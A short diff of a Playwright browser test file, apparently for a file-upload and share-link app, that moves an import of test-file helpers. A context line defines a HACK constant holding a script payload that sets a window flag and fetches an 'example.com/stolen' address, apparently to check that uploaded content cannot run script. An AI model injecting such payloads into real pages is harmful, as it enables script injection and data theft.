@@ -1,8 +1,8 @@
 import type { Page } from '@playwright/test';
+import { type MadeFile, pdf, png, textFile, wav } from '../../dev/seed/made-files.ts';
 import { chooseFilesButton, openFolder, pick, shareLink, startUpload } from './acts.ts';
 import { atRest, violations } from './axe.ts';
 import { expect, test } from './browser.ts';
-import { type MadeFile, pdf, png, textFile, wav } from './made-files.ts';
 
 const MIB = 1024 * 1024;
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
